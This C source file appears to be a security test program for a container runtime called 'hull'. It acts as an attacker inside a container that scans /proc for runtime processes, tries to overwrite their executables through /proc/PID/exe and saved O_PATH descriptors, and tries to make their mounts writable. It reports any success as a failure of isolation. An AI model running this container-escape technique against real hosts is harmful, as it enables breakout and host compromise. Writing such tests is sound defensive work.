/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* reach: an attacker inside of a container: for some time it looks for processes of the runtime, and tries everything that
 * could change the files they run from. Says what it managed; nothing is as it should be.
 *
 *	reach SECONDS
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define KEPT_MAX          256
#define MOUNT_ATTR_RDONLY 1
#define SYS_MOUNT_SETATTR 442

/* O_PATH descriptors of what has been found: they may be opened for writing once nobody runs it any more. */
static int kept[KEPT_MAX];
static int kept_len;

/* A process may have executed something else since we looked at its name. */
static int is_runtime_file(int fd)
{
	char path[40], target[4096];
	const char *base;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	base = strrchr(target, '/');
	return base != NULL && strstr(base, "hull") != NULL;
}

static void try_write(const char *path, const char *name)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (is_runtime_file(fd) && pwrite(fd, "\177", 1, 0) == 1)
		printf("wrote to %s\n", name);
	close(fd);
}

static void try_setattr(int fd, const char *name)
{
	const struct {
		uint64_t set, clear, propagation, userns;
	} writable = { .clear = MOUNT_ATTR_RDONLY };

	if (syscall(SYS_MOUNT_SETATTR, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)) == 0)
		printf("changed the mount of %s\n", name);
}

static int is_runtime(const char *pid) /* by its name */
{
	char path[300], text[32];
	int fd, n;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : (int)read(fd, text, sizeof(text) - 1);
	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = '\0';
	return strstr(text, "hull") != NULL;
}

static void attack(const char *pid)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	try_write(path, path);
	fd = kept_len < KEPT_MAX ? open(path, O_PATH | O_CLOEXEC) : -1;
	if (fd < 0)
		return;
	if (!is_runtime_file(fd)) {
		close(fd);
		return;
	}
	try_setattr(fd, path);
	kept[kept_len++] = fd;
}

static void attack_kept(void)
{
	char path[40];

	for (int i = 0; i < kept_len; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		try_write(path, path);
	}
}

static void attack_all(void)
{
	DIR *proc = opendir("/proc");

	for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
		if (isdigit((unsigned char)entry->d_name[0]) && is_runtime(entry->d_name))
			attack(entry->d_name);
	}
	if (proc != NULL)
		closedir(proc);
	attack_kept();
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);

	attack("self");
	while (time(NULL) < end)
		attack_all();
	printf("done\n");
	return 0;
}
